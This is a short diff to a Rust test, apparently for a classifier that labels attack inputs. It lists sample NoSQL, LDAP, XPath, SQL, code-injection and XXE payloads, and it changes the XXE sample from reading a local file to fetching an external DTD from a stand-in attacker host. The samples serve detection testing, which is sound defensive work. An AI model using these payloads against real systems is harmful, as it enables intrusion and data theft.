@@ -46,7 +46,7 @@ fn each_category_is_recognised() {
         ("user[$regex]=^adm", Category::NosqlInjection),
         ("*)(uid=*))(|(uid=*", Category::LdapInjection),
         ("count(/child::node())", Category::XpathInjection),
-        ("<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><r>&x;</r>", Category::Xxe),
+        ("<!DOCTYPE r [<!ENTITY x SYSTEM \"http://evil.example/x.dtd\">]><r>&x;</r>", Category::Xxe),
         ("__import__('os').popen('id').read()", Category::CodeInjection),
         ("admin' -- ", Category::SqlInjection),
     ];
